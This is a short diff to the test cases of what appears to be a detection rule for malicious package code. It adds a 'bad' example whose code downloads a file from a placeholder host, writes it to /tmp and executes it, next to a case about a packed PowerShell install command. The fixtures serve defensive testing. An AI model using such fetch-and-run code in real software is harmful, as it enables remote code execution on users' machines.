@@ -3,6 +3,10 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a hidden file that an instance names',
+      code: "const fs = require('fs'), cp = require('child_process');\nclass F { constructor() { this.bin = '/tmp/w'; } async pull() { fs.writeFileSync(this.bin, Buffer.from(await (await fetch('https://u.example/w')).arrayBuffer())); cp.spawn(this.bin, []); } }\nnew F().pull();",
+    },
+    {
       name: 'a packed command for PowerShell, when installed',
       manifest: {
         scripts: {
